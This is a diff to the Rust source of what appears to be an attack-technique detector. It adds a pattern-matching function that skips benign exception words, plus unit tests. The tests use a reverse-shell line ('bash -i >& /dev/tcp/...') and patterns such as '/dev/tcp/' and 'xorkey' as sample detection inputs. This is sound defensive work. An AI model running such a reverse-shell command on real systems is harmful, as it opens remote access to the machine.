@@ -724,6 +724,35 @@ fn exception_ranges(value: &str) -> Vec<(usize, usize)> {
     })
 }
 
+/// Whether `lower` (`value` in lower case) holds `pattern` (lower case) somewhere outside
+/// the benign words of `data/attack-string-exceptions.txt`: the test the class hints'
+/// `string` conditions make, as the techniques' string patterns do.
+pub fn holds_string(value: &str, lower: &str, pattern: &str) -> bool {
+    if pattern.is_empty() || !lower.contains(pattern) {
+        return false;
+    }
+    let exceptions = exception_ranges(value);
+    if exceptions.is_empty() {
+        return true;
+    }
+    // every place, overlapping ones too
+    let mut from = 0;
+    while let Some(at) = lower.get(from..).and_then(|rest| rest.find(pattern)) {
+        let at = from + at;
+        if !exceptions
+            .iter()
+            .any(|&(a, b)| a <= at && at + pattern.len() <= b)
+        {
+            return true;
+        }
+        from = at + 1;
+        while !lower.is_char_boundary(from) {
+            from += 1;
+        }
+    }
+    false
+}
+
 /// The alternatives of the rules' conditions of one kind, in lower case, sorted, once
 /// each.
 fn alternatives_of(kind: AtomKind) -> Vec<String> {
@@ -1421,6 +1450,24 @@ mod tests {
         assert!(t1140("XORKeyStream xorkey=0x5a"));
         assert!(t1140("var xorKey = 0x5a"));
         assert!(t1140("decrypt_payload"));
+    }
+
+    /// `holds_string` finds a pattern anywhere outside the benign words, overlapping
+    /// places too.
+    #[test]
+    fn holds_string_skips_only_the_benign_words() {
+        let holds =
+            |value: &str, pattern: &str| holds_string(value, &value.to_ascii_lowercase(), pattern);
+        assert!(holds("bash -i >& /dev/tcp/192.0.2.1/8080", "/dev/tcp/"));
+        assert!(!holds("/dev/tcp/*/*", "/dev/tcp/"));
+        assert!(!holds("xx /dev/tcp/*/* yy", "/dev/tcp/"));
+        assert!(holds("/dev/tcp/*/* /dev/tcp/%s/%d", "/dev/tcp/"));
+        assert!(!holds("crypto/cipher.XORKeyStream", "xorkey"));
+        assert!(holds("XORKeyStream xorkey", "xorkey"));
+        assert!(!holds("nothing here", "xorkey"));
+        assert!(!holds("anything", ""));
+        // a pattern whose second place overlaps its first
+        assert!(holds("/dev/tcp/*/*/dev/tcp/1", "/dev/tcp/"));
     }
 
     /// A lower-case API name alone among other strings (`std::system_category`'s
